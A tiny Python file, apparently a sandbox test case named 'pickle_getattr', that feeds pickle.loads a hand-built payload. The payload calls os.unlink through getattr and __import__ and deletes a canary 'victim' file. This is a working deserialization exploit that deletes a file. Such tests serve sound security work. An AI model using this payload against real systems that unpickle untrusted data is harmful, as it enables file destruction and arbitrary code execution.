"""pickle_getattr."""
import os
V = CANARY + '/victim'
import pickle
pickle.loads(b'c__builtin__\ngetattr\n(c__builtin__\n__import__\n(Vos\ntRVunlink\ntR(V' + V.encode() + b'\ntR.')
